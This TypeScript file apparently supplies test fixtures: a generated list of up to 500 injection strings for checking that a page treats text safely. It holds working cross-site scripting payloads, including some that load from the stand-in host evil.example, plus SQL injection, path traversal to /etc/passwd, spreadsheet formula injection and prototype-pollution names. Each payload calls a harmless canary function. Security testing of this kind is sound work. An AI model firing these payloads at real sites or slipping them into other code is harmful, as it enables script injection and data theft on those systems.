// Five hundred texts that would run, if the page took text for anything but text. Each calls selonRan(), breaks out of where it stands, or
// names what every object has. Made from lists, always the same.

const kRun = 'selonRan()';

const kTags = [
  `<script>${kRun}</script>`,
  `<ScRiPt >${kRun}</sCrIpT>`,
  `<script src="data:text/javascript,${kRun}"></script>`,
  `<script/src=https://evil.example/x.js></script>`,
  `<img src=x onerror=${kRun}>`,
  `<img/src/onerror=${kRun}>`,
  `<img src="x\`" onerror="${kRun}">`,
  `<image href=1 onerror=${kRun}>`,
  `<svg onload=${kRun}>`,
  `<svg/onload=${kRun}//`,
  `<svg><script>${kRun}</script></svg>`,
  `<svg><animate onbegin=${kRun} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${kRun}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${kRun}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${kRun}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${kRun}&gt;">`,
  `<math href="javascript:${kRun}">CLICK</math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${kRun}></annotation-xml></math>`,
  `<iframe src="javascript:parent.${kRun}"></iframe>`,
  `<iframe srcdoc="<img src=x onerror=parent.${kRun}>"></iframe>`,
  `<object data="javascript:${kRun}"></object>`,
  `<embed src="javascript:${kRun}">`,
  `<details open ontoggle=${kRun}>x</details>`,
  `<video><source onerror=${kRun}></video>`,
  `<audio src=x onerror=${kRun}></audio>`,
  `<input autofocus onfocus=${kRun}>`,
  `<select autofocus onfocus=${kRun}></select>`,
  `<textarea autofocus onfocus=${kRun}></textarea>`,
  `<body onload=${kRun}>`,
  `<body onpageshow=${kRun}>`,
  `<marquee onstart=${kRun}>x</marquee>`,
  `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${kRun}"></p>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=javascript:${kRun}">`,
  `<meta http-equiv="refresh" content="0; url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<form action="javascript:${kRun}"><button autofocus>x</button></form>`,
  `<button formaction="javascript:${kRun}">x</button>`,
  `<a href="javascript:${kRun}" autofocus>x</a>`,
  `<template><script>${kRun}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${kRun}>">`,
  `<x contenteditable onblur=${kRun} tabindex=1 autofocus>lose focus</x>`,
  `<x onclick=${kRun} onmouseover=${kRun}>press</x>`,
];

/** What may stand before, to end what the text stands in. */
const kBreaks = ['', '">', "'>", '</title>', '</textarea>', '</style>', '</script>', '-->', ']]>', '\\u003c/script>\\u003cscript>'];

const kAttributes = [
  `" onmouseover="${kRun}" x="`,
  `' onfocus='${kRun}' autofocus tabindex='1`,
  `" autofocus onfocus=${kRun} //`,
  `" style="animation-name:spin" onanimationstart="${kRun}`,
  `x" srcdoc="<script>parent.${kRun}</script>`,
  `\`onerror=${kRun}`,
];

const kAddresses = [
  `javascript:${kRun}`,
  `JaVaScRiPt:${kRun}`,
  `java\tscript:${kRun}`,
  `java\nscript:${kRun}`,
  ` \u0001javascript:${kRun}`,
  `javascript://x.example/%0a${kRun}`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${kRun}//'>`,
  `data:text/html,<script>${kRun}</script>`,
  `data:text/html;base64,PHNjcmlwdD5zZWxvblJhbigpPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${kRun}"/>`,
  `vbscript:${kRun}`,
  `view-source:javascript:${kRun}`,
  `blob:https://evil.example/1`,
  `//evil.example/x`,
  `\\\\evil.example\\x`,
  `https://evil.example\\@ok.example/`,
  `https://ok.example@evil.example/`,
  `http://evil.example/"onclick="${kRun}`,
  `feed:javascript:${kRun}`,
  `filesystem:https://evil.example/temporary/x`,
];

const kTemplates = [
  `{{constructor.constructor('${kRun}')()}}`,
  `{{$on.constructor('${kRun}')()}}`,
  `\${${kRun}}`,
  `#{${kRun}}`,
  `{@html '<img src=x onerror=${kRun}>'}`,
  `{#if ${kRun}}{/if}`,
  `<%= ${kRun} %>`,
  `[[${kRun}]]`,
  `*{T(java.lang.Runtime)}`,
  `{{7*7}}`,
];

const kStyles = [
  `</style><script>${kRun}</script>`,
  `x;background:url(https://evil.example/x)`,
  `expression(${kRun})`,
  `url("javascript:${kRun}")`,
  `}*{background:url(https://evil.example/x)}`,
  `</style><svg/onload=${kRun}>`,
];

const kPrograms = [
  `";${kRun}//`,
  `';${kRun}//`,
  `\\";${kRun}//`,
  `</script><script>${kRun}</script>`,
  `<!--<script>${kRun}`,
  `"}]};${kRun};//`,
  `\u2028${kRun}\u2029`,
  `&lt;script&gt;${kRun}&lt;/script&gt;`,
  `&#60;img src=x onerror=${kRun}&#62;`,
  `%3Cscript%3E${kRun}%3C/script%3E`,
  `%253Cscript%253E${kRun}%253C/script%253E`,
  `+ADw-script+AD4-${kRun}+ADw-/script+AD4-`,
  `\uff1cscript\uff1e${kRun}\uff1c/script\uff1e`,
  `\u02bascript\u02ba${kRun}`,
];

const kUnicode = [
  '\u202eevil\u202c reversed',
  '\u2066\u202e<script>\u2069',
  'zero\u200bwidth\u200dand\u2060joined\ufeff',
  'Za\u0310\u0311\u0312\u0313\u0314\u0315\u0316\u0317\u0318\u0319\u031a\u031blgo',
  'рroраgаndа', // Cyrillic letters that look Latin
  '\u0000null\u0000',
  '\u001b[31mred\u001b[0m',
  '👩‍👩‍👧‍👦🏴‍☠️',
  'مرحبا <b>bold</b> שלום',
  'İıſK',
  'W'.repeat(300),
  `${'ก็'.repeat(40)}`,
];

const kNames = [
  '__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', '__lookupSetter__', 'isPrototypeOf',
  '__proto__[selonRan]', 'constructor.prototype.selonRan', '__proto__.selonRan', 'undefined', 'null', 'NaN', 'true', '[object Object]', 'length', 'then',
  '../../etc/passwd', '..%2f..%2fv1', '%00', '?a=b&c=d#e', '#/review', "'; DROP TABLE events; --", '-1 OR 1=1', '=HYPERLINK("https://evil.example")', '@SUM(1)',
];

const kOthers = [...kAttributes, ...kAddresses, ...kTemplates, ...kStyles, ...kPrograms, ...kUnicode, ...kNames];

const kAll = [...kOthers, ...kBreaks.flatMap((before) => kTags.map((tag) => before + tag))];

export const kPayloads: readonly string[] = [...new Set(kAll)].slice(0, 500);
